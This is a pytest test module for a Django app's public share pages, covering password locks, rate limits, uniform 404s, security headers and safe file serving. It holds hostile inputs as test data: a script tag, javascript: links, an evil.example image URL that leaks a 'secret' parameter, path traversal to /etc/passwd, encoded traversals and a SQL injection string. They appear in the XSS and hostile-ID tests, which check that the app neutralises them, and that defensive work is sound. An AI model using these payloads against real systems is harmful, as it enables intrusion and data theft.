"""The public page of a share: its lock, its files, and one response for everything that does not exist (S9–S12)."""

from __future__ import annotations

import io
import logging
import random
import statistics
import string
import time
import zipfile
from datetime import timedelta
from uuid import uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from copilot.files import services as files
from copilot.files import storage
from copilot.models import Share, SharedFile, WorkspaceFile
from copilot.sharing import access
from copilot.sharing import services as sharing
from copilot.sharing.drafts import ShareRequest
from copilot.sharing.services import ShareTerms
from tests.support import factories
from tests.support.race_repeats import rounds
from tests.support.rest_clients import JSON, V1, person
from tests.support.shares import shared_page, spoken, status, stored, stranger, with_files

pytestmark = pytest.mark.django_db

PASSWORD = "open sesame"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)
VARYING = {"X-Request-ID", "Date"}


def bare(response):
    """Status, headers and body, without what differs between any two answers."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response.status_code, {k: v for k, v in response.headers.items() if k not in VARYING}, body


def publish(session, **terms):
    return sharing.publish_session(session.owner_id, session.pk, ShareRequest(), ShareTerms(**terms))


def unlock(client, share, password=PASSWORD, **options):
    return client.post(f"/share/{share.token}/unlock", {"password": password}, **options)


@pytest.fixture
def silent():
    """Thousands of refusals would each be a line or two."""
    logging.disable(logging.WARNING)
    yield
    logging.disable(logging.NOTSET)


@pytest.fixture
def unlimited(monkeypatch):
    monkeypatch.setattr(access, "REQUESTS_PER_MINUTE", dict.fromkeys(access.REQUESTS_PER_MINUTE, 10**9))


# --- passwords (S9) ----------------------------------------------------------------------------------


def test_a_locked_page_tells_nothing_and_opens_by_its_password():
    """S9"""
    share = publish(spoken("canary question", "canary answer", title="canary title"), password=PASSWORD)
    visitor = stranger()
    locked = visitor.get(f"/share/{share.token}")
    assert b"canary" not in locked.content
    assert b'og:title" content="Pilothouse"' in locked.content
    assert visitor.get(f"{V1}/public/shares/{share.token}").status_code == 404
    opened = unlock(visitor, share)
    assert (opened.status_code, opened["Location"]) == (303, f"/share/{share.token}")
    cookie = opened.cookies["share_key"]
    assert (cookie["path"], cookie["samesite"], cookie["max-age"]) == (f"/share/{share.token}", "Lax", 43200)
    assert cookie["httponly"]
    assert cookie["secure"]
    assert b"canary answer" in visitor.get(f"/share/{share.token}").content


def test_programs_unlock_with_the_same_value():
    """S9"""
    share = publish(spoken("Hi", "canary"), password=PASSWORD)
    path, program = f"{V1}/public/shares/{share.token}", stranger()
    wrong = program.post(f"{path}/unlock", {"password": "something else"}, content_type=JSON)
    assert wrong.status_code == 404
    key = program.post(f"{path}/unlock", {"password": PASSWORD}, content_type=JSON).json()["key"]
    assert b"canary" in program.get(path, headers={"authorization": f"Share {key}"}).content
    visitor = stranger()
    visitor.cookies["share_key"] = key
    assert b"canary" in visitor.get(f"/share/{share.token}").content


def test_a_new_password_locks_everybody_out():
    """A-S9.3"""
    share = publish(spoken("Hi", "canary"), password=PASSWORD)
    visitor = stranger()
    unlock(visitor, share)
    assert b"canary" in visitor.get(f"/share/{share.token}").content
    sharing.update_share(share, {"password": "another one"})
    assert b"canary" not in visitor.get(f"/share/{share.token}").content
    unlock(visitor, share, "another one")
    assert b"canary" in visitor.get(f"/share/{share.token}").content


def test_the_sixth_wrong_password_is_refused_and_others_may_still_try():
    """A-S9.4"""
    share = publish(spoken("Hi", "canary"), password=PASSWORD)
    for _ in range(5):
        assert unlock(stranger(), share, "wrong wrong").status_code == 403
    refused = unlock(stranger(), share, "wrong wrong")
    assert refused.status_code == 429
    assert 0 < int(refused["Retry-After"]) <= 900
    assert unlock(stranger(), share).status_code == 429
    assert unlock(stranger(), share, REMOTE_ADDR="10.1.1.1").status_code == 303


def test_a_share_takes_fifty_wrong_passwords_an_hour_from_everybody_together():
    """A-S9.4: right ones are not counted"""
    share = publish(spoken("Hi", "canary"), password=PASSWORD)
    for number in range(50):
        address = f"10.2.0.{number}"
        assert access.unlock_share(share.token, "wrong wrong", address) is None
        if number % 10 == 0:
            assert access.unlock_share(share.token, PASSWORD, f"10.3.0.{number}")
    assert unlock(stranger(), share, REMOTE_ADDR="10.4.0.1").status_code == 429


def test_the_key_of_one_share_does_not_open_another():
    """A-S9.5"""
    first = publish(spoken("Hi", "one"), password=PASSWORD)
    second = publish(spoken("Hi", "canary"), password=PASSWORD)
    visitor = stranger()
    key = unlock(visitor, first).cookies["share_key"].value
    other = stranger()
    other.cookies["share_key"] = key
    assert b"canary" not in other.get(f"/share/{second.token}").content
    assert b"Password required" in other.get(f"/share/{second.token}").content


def test_a_password_takes_as_long_where_there_is_no_share(monkeypatch):
    """S9: the comparison happens either way"""
    compared = []

    def comparing(given, known):
        compared.append(known)
        return False

    monkeypatch.setattr(access, "check_password", comparing)
    share = publish(spoken("Hi", "Ho"), password=PASSWORD)
    access.unlock_share(share.token, "x", "10.0.0.1")
    access.unlock_share(uuid4(), "x", "10.0.0.1")
    [known, nobodys] = compared
    assert known.split("$")[0] == nobodys.split("$")[0]


def test_a_download_that_began_may_end_and_the_next_is_refused():
    """A-S9.2"""
    file = stored("big.bin", b"\0" * (3 * storage.CHUNK_BYTES))
    share = with_files(file)
    path = f"/share/{share.token}/files/{file.pk}"
    running = iter(stranger().get(path).streaming_content)
    next(running)
    sharing.revoke_session_share(share.owner_id, share.session_id)
    assert sum(map(len, running)) == 2 * storage.CHUNK_BYTES
    assert status(path) == 404


# --- the page (S11) ----------------------------------------------------------------------------------


def dead_shares():
    """Why a token may be dead: each with a share that was alive before."""
    revoked, expired, down = (publish(spoken("Hi", "Ho")) for _ in range(3))
    sharing.revoke_share(revoked)
    Share.objects.filter(pk=expired.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    sharing.take_down_share(down, "spam")
    return {"revoked": revoked.token, "expired": expired.token, "taken down": down.token}


def test_every_dead_token_gives_one_and_the_same_page():
    """A-S11.1"""
    tokens = dead_shares() | {"unknown": uuid4(), "malformed": "not-a-token"}
    answers = {why: bare(stranger().get(f"/share/{token}")) for why, token in tokens.items()}
    assert len(answers) == 5
    status, headers, body = answers["unknown"]
    assert status == 404
    assert str(tokens["unknown"]).encode() not in body
    assert headers["X-Robots-Tag"] == "noindex, nofollow, noarchive"
    for why, answer in answers.items():
        assert answer == answers["unknown"], why


def test_the_public_page_has_its_security_headers():
    """S11"""
    page = shared_page(publish(spoken("Hi", "Ho")))
    assert page["Referrer-Policy"] == "no-referrer"
    assert page["Cache-Control"] == "private, no-store"
    policy = page["Content-Security-Policy"]
    for rule in ("frame-ancestors 'none'", "form-action 'self'", "script-src 'self'", "style-src 'self'"):
        assert rule in policy
    assert "unsafe" not in policy
    assert b'<meta name="robots" content="noindex,nofollow,noarchive">' in page.content
    assert not page.cookies


def test_hostile_texts_are_shown_and_do_nothing():
    """A-S11.2"""
    hostile = (
        "<script>alert(1)</script> [x](javascript:alert(1)) ![x](https://evil.example/p.png?d=secret) "
        "![y](data:image/svg+xml;base64,PHN2Zz4=) [ok](https://example.com) <img src=//evil.example/q>"
    )
    html = shared_page(publish(spoken(hostile, hostile, title=hostile))).content.decode()
    body = html[html.index("<main") :]
    assert "<script" not in body
    assert "<img" not in body
    assert "javascript:alert" not in html.replace("[x](javascript:alert(1))", "")
    assert 'href="https://evil.example/p.png?d=secret"' in body  # a link, which nobody follows by looking
    assert 'rel="nofollow noopener ugc"' in body


def test_owner_and_visitor_see_the_same():
    """A-S11.3"""
    share = publish(spoken("Hi", "Ho"))
    owner = person(factories.ada())
    assert bare(owner.get(f"/share/{share.token}")) == bare(stranger().get(f"/share/{share.token}"))


def test_pictures_and_cards_lead_to_the_public_route():
    """S11"""
    picture, page, gone = stored("p.png", PIXEL), stored("n.txt"), stored("g.txt")
    session = spoken(
        "Hi",
        f"![A plot](workspace://{picture.pk}#image/png) [notes](workspace://{page.pk}) workspace://{gone.pk}",
    )
    asked = ShareRequest(include_files=frozenset({picture.pk, page.pk}))
    share = sharing.publish_session(session.owner_id, session.pk, asked, ShareTerms())
    html = shared_page(share).content.decode()
    assert f'<img src="/share/{share.token}/files/{picture.pk}" alt="A plot"' in html
    assert f'href="/share/{share.token}/files/{page.pk}"' in html
    assert "File not available" in html
    assert f"files/{gone.pk}" not in html


def test_tries_at_made_up_tokens_are_limited_per_address(monkeypatch):
    """S11, S9: each costs a slow hash, so that it must not be had for the asking"""
    monkeypatch.setitem(access.REQUESTS_PER_MINUTE, "page", 3)
    tries = [stranger().post(f"/share/{uuid4()}/unlock", {"password": "x" * 8}).status_code for _ in range(4)]
    assert tries == [404] * 3 + [429]


def test_looks_are_limited_per_address(monkeypatch):
    """S11"""
    assert access.REQUESTS_PER_MINUTE == {"page": 60, "file": 300, "zip": 6}
    monkeypatch.setitem(access.REQUESTS_PER_MINUTE, "page", 3)
    share = publish(spoken("Hi", "Ho"))
    answers = [shared_page(share, REMOTE_ADDR="10.9.0.1").status_code for _ in range(4)]
    assert answers == [200] * 3 + [429]
    assert shared_page(share, REMOTE_ADDR="10.9.0.2").status_code == 200
    busy = stranger().get(f"/share/{uuid4()}", REMOTE_ADDR="10.9.0.1")
    assert busy.status_code == 429
    assert busy["Retry-After"]
    v6 = [shared_page(share, REMOTE_ADDR=f"2001:db8::{number:x}").status_code for number in range(4)]
    assert v6[-1] == 429


def test_addresses_are_kept_as_salted_hashes_for_at_most_an_hour(redis_clean):
    """S19"""
    share = publish(spoken("Hi", "Ho"), password=PASSWORD)
    shared_page(share, REMOTE_ADDR="10.20.30.40")
    unlock(stranger(), share, "wrong wrong", REMOTE_ADDR="10.20.30.40")
    keys = redis_clean.keys("*share*")
    assert len(keys) >= 3
    for key in keys:
        assert b"10.20.30.40" not in key
        assert str(share.token).encode() not in key
        assert 0 < redis_clean.ttl(key) <= 3600


# --- files (S12) -------------------------------------------------------------------------------------


def refusals():
    """A path for each of the eight reasons, and one that is served."""
    file, deleted, infected, other = (stored(f"{name}.txt") for name in "abcd")
    share, locked, revoked, expired = (
        with_files(file, deleted, infected),
        with_files(file, password=PASSWORD),
        with_files(file),
        with_files(file),
    )
    files.trash_file(factories.ada().pk, deleted.pk)
    WorkspaceFile.objects.filter(pk=infected.pk).update(scan="infected")
    sharing.revoke_share(revoked)
    Share.objects.filter(pk=expired.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    served = f"{share.token}/files/{file.pk}"
    return served, {
        "wrong format": f"{share.token}/files/{str(file.pk).upper()}",
        "unknown token": f"{uuid4()}/files/{file.pk}",
        "unknown file": f"{share.token}/files/{other.pk}",
        "revoked": f"{revoked.token}/files/{file.pk}",
        "expired": f"{expired.token}/files/{file.pk}",
        "deleted file": f"{share.token}/files/{deleted.pk}",
        "infected": f"{share.token}/files/{infected.pk}",
        "locked": f"{locked.token}/files/{file.pk}",
    }


def test_all_refusals_of_a_file_are_one_answer():
    """A-S12.1"""
    served, refused = refusals()
    assert status(f"/share/{served}") == 200
    assert status(f"{V1}/public/shares/{served}/download") == 200
    for form in ("/share/{}", f"{V1}/public/shares/{{}}/download"):
        answers = {why: bare(stranger().get(form.format(path))) for why, path in refused.items()}
        assert len(answers) == 8
        assert answers["unknown token"][0] == 404
        for why, answer in answers.items():
            assert answer == answers["unknown token"], why


HOSTILE = [
    "../../etc/passwd",
    "%2e%2e%2f%2e%2e",
    "%252e%252e",
    "%00",
    "１１１１１１１１-1111-4111-8111-111111111111",
    "11111111‐1111‐4111‐8111‐111111111111",
    "__proto__",
    "' OR 1=1 --",
    "https://evil.example/x",
    "11111111-1111-4111-8111-11111111111A",
    "11111111-1111-4111-8111-111111111111%0a",
    "x" * 10_000,
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_ids_find_nothing_without_a_query(name):
    """A-S12.2"""
    visitor = stranger()
    with CaptureQueriesContext(connection) as asked:
        for path in (
            f"/share/{name}",
            f"/share/{name}/files/{uuid4()}",
            f"/share/{uuid4()}/files/{name}",
            f"{V1}/public/shares/{name}",
            f"{V1}/public/shares/{uuid4()}/files/{name}/download",
        ):
            assert visitor.get(path).status_code == 404
    assert len(asked) == 0


def test_a_shared_document_is_shown_to_frames_alone_and_without_an_origin():
    """S14: the rights are those of its download, and everybody else finds nothing"""
    page = stored("page.html", b"<!doctype html><h1>Ahoy</h1>")
    share = with_files(page)
    address = f"/share/{share.token}/files/{page.pk}/render"
    framed = stranger().get(address, headers={"Sec-Fetch-Dest": "iframe"})
    assert b"<h1>Ahoy</h1>" in framed.content
    assert framed["Content-Security-Policy"].startswith("sandbox allow-scripts; default-src 'none'")
    missing = bare(stranger().get(f"/share/{uuid4()}/files/{page.pk}/render"))
    assert bare(stranger().get(address)) == missing
    sharing.revoke_share(share)
    assert bare(stranger().get(address, headers={"Sec-Fetch-Dest": "iframe"})) == missing


def test_a_file_of_another_share_is_not_served():
    """A-S12.3"""
    mine, other = stored("a.txt"), stored("b.txt")
    first, second = with_files(mine), with_files(other)
    assert status(f"/share/{first.token}/files/{other.pk}") == 404
    assert status(f"/share/{second.token}/files/{other.pk}") == 200


def test_a_deleted_file_is_gone_at_once_and_for_good():
    """A-S12.4"""
    file = stored()
    path = f"/share/{with_files(file).token}/files/{file.pk}"
    assert status(path) == 200
    files.trash_file(factories.ada().pk, file.pk)
    assert status(path) == 404
    files.restore_file(factories.ada().pk, file.pk)
    assert status(path) == 404


def test_refusals_take_equally_long(unlimited):
    """A-S12.5: by the queries, and by the time it takes"""
    _, refused = refusals()
    refused.pop("wrong format")  # which anybody can see, and which asks nothing
    visitor = stranger()
    for path in refused.values():
        with CaptureQueriesContext(connection) as asked:
            visitor.get(f"/share/{path}")
        assert len(asked) == 1
    took: dict[str, list[float]] = {why: [] for why in refused}
    places: dict[str, list[int]] = {why: [] for why in refused}  # from the quickest of a round to the slowest
    for _ in range(6):  # a busy machine needs more samples; a real difference stays however many there are
        for _ in range(25):
            one_round: dict[str, float] = {}
            for why, path in random.sample(list(refused.items()), len(refused)):
                began = time.perf_counter()
                visitor.get(f"/share/{path}")
                one_round[why] = time.perf_counter() - began
                took[why].append(one_round[why])
            for place, why in enumerate(sorted(one_round, key=one_round.__getitem__)):
                places[why].append(place)
        undisturbed = [statistics.quantiles(times, n=10)[0] for times in took.values()]
        usual = [statistics.mean(found) for found in places.values()]
        if max(undisturbed) <= 1.2 * min(undisturbed) or max(usual) - min(usual) < 1:
            return
    pytest.fail(f"refusals differ: {undisturbed}, places {usual}")


def test_a_public_file_is_served_safely():
    """S12, S7"""
    picture, page = stored("p.png", PIXEL), stored("p.html", b"<html><script>1</script>")
    share = with_files(picture, page)
    path = f"/share/{share.token}/files/{picture.pk}"
    visitor = stranger()
    shown, saved = visitor.get(path), visitor.get(f"{path}?download=1")
    assert shown["Content-Disposition"].startswith("inline")
    assert saved["Content-Disposition"].startswith("attachment")
    for answer in (shown, saved):
        assert answer["Cache-Control"] == "private, no-cache"
        assert answer["Cross-Origin-Resource-Policy"] == "same-site"
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert answer["X-Robots-Tag"]
        assert not answer.cookies
        assert b"".join(answer.streaming_content) == PIXEL
    active = visitor.get(f"/share/{share.token}/files/{page.pk}")
    list(active.streaming_content)
    assert active["Content-Disposition"].startswith("attachment")
    assert active["Content-Type"] == "application/octet-stream"
    assert visitor.get(path, headers={"if-none-match": shown["ETag"]}).status_code == 304
    for method in ("post", "put", "patch", "delete", "options"):
        assert getattr(visitor, method)(path).status_code == 404
    assert visitor.head(path).status_code == 200
    sharing.revoke_share(share)
    assert visitor.get(path, headers={"if-none-match": shown["ETag"]}).status_code == 404


@pytest.mark.parametrize("locked", [False, True])
def test_a_public_file_asks_the_database_three_times_at_most(locked):
    """A-S21.2: however it is asked for; how long it takes is a line of the bench"""
    share = with_files(
        stored("p.png", PIXEL), stored("p.txt", b"text"), password="open sesame" if locked else ""
    )
    visitor = stranger()
    if locked:
        visitor.post(f"/share/{share.token}/unlock", {"password": "open sesame"})
    file = SharedFile.objects.select_related("file").filter(share=share).first()
    path = f"/share/{share.token}/files/{file.file_id}"
    for how in ({}, {"range": "bytes=0-1"}, {"if-none-match": f'"{file.file.sha256}"'}):
        with CaptureQueriesContext(connection) as asked:
            answer = visitor.get(path, headers=how)
            b"".join(getattr(answer, "streaming_content", ()))
        assert answer.status_code in (200, 206, 304)
        assert len(asked) <= 3


def test_a_store_that_is_away_is_said_so_only_to_those_who_may_read(monkeypatch):
    """S12"""
    file = stored()
    share = with_files(file)
    file_path = f"/share/{share.token}/files/{file.pk}"
    storage.delete_object(file.storage_key)
    answer = stranger().get(file_path)
    assert (answer.status_code, answer["Retry-After"]) == (503, "5")
    sharing.revoke_share(share)
    assert status(file_path) == 404


def test_all_files_come_as_one_archive_until_the_share_ends():
    """A-S13.3: and a locked one gives nothing without its key"""
    share = with_files(stored("a.txt", b"one"), stored("b.txt", b"two"), password=PASSWORD)
    path, visitor = f"/share/{share.token}/zip", stranger()
    assert status(path) == 404
    unlock(visitor, share)
    assert f'href="{path}"' in visitor.get(f"/share/{share.token}").content.decode()
    answer = visitor.get(path)
    running = iter(answer.streaming_content)
    begun = next(running)
    sharing.revoke_share(share)
    with zipfile.ZipFile(io.BytesIO(begun + b"".join(running))) as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == {"a.txt": b"one", "b.txt": b"two"}
    assert answer["Cross-Origin-Resource-Policy"] == "same-site"
    assert status(path, visitor) == 404


def test_programs_fetch_all_files_of_a_share_too(settings):
    """S12, S13: with the key of a lock; refusals are the one 404, limits are told"""
    share = with_files(stored("a.txt", b"one"), stored("b.txt", b"two"), password=PASSWORD)
    path = f"{V1}/public/shares/{share.token}"
    missing = stranger().get(f"{V1}/public/shares/{uuid4()}/zip")
    locked = stranger().get(f"{path}/zip")
    assert (locked.status_code, locked.content) == (404, missing.content)
    key = (
        stranger()
        .post(f"{path}/unlock", {"password": PASSWORD}, content_type="application/json")
        .json()["key"]
    )
    answer = stranger().get(f"{path}/zip", headers={"authorization": f"Share {key}"})
    with zipfile.ZipFile(io.BytesIO(b"".join(answer.streaming_content))) as archive:
        assert archive.namelist() == ["a.txt", "b.txt"]
    settings.ZIP_TOTAL_MAX = 3
    assert stranger().get(f"{path}/zip", headers={"authorization": f"Share {key}"}).status_code == 413


def test_an_old_share_serves_the_bytes_it_was_made_with():
    """A-S3.2: writing the name again makes another file"""
    file = stored("report.md", b"one")
    share = with_files(file)
    stored("report.md", b"two")
    answer = stranger().get(f"/share/{share.token}/files/{file.pk}")
    assert b"".join(answer.streaming_content) == b"one"


def test_an_archive_that_would_be_too_large_says_so(settings):
    """S13"""
    settings.ZIP_TOTAL_MAX = 3
    share = with_files(stored("a.txt", b"one"), stored("b.txt", b"two"))
    answer = stranger().get(f"/share/{share.token}/zip")
    assert answer.status_code == 413
    assert b"one by one" in answer.content


# --- everything else ---------------------------------------------------------------------------------


@rounds(150, 5_000)
def test_random_paths_find_nothing(unlimited, silent, rounds):
    """A-S21.1"""
    chance = random.Random(21)
    share = with_files(stored())
    real = [
        str(share.token),
        "files",
        "zip",
        "unlock",
        "download",
        str(uuid4()),
        "..",
        "%2e%2e",
        "",
        "%00",
        "'",
    ]
    alphabet = string.ascii_letters + string.digits + "-_.~%/?#&=+ äß∂\\"
    visitor = stranger()
    for number in range(rounds):
        rest = "/".join(
            chance.choice(real[1:])
            if chance.random() < 0.5
            else "".join(chance.choices(alphabet, k=chance.randint(1, 40)))
            for _ in range(chance.randint(1, 4))
        )
        root = "/share/" if number % 2 else f"{V1}/public/"
        method = chance.choice(("get", "get", "get", "head", "post", "put", "options"))
        answer = getattr(visitor, method)(root + rest)
        assert answer.status_code in (404, 429), (method, root + rest, answer.status_code)


def test_no_token_is_in_any_log(unlimited):
    """A-S19.1: whatever is asked for, and however it ends"""
    from django.conf import settings as configured

    written = io.StringIO()
    handler = logging.StreamHandler(written)
    rules = configured.LOGGING["formatters"]["line"]
    handler.setFormatter(rules["()"](**{k: v for k, v in rules.items() if k != "()"}))
    logging.getLogger().addHandler(handler)
    try:
        file = stored()
        share, visitor = with_files(file, password=PASSWORD), stranger()
        unlock(visitor, share, "wrong wrong")
        unlock(visitor, share)
        for path in ("", f"/files/{file.pk}", f"/files/{uuid4()}", "/nonsense", "/unlock"):
            status(f"/share/{share.token}{path}", visitor)
            status(f"{V1}/public/shares/{share.token}{path}", visitor)
        sharing.revoke_share(share)
        visitor.get(f"/share/{share.token}")
        visitor.get(f"{V1}/public/shares/{share.token}")
    finally:
        logging.getLogger().removeHandler(handler)
    assert "request" in written.getvalue()
    assert str(share.token) not in written.getvalue()
    assert PASSWORD not in written.getvalue()
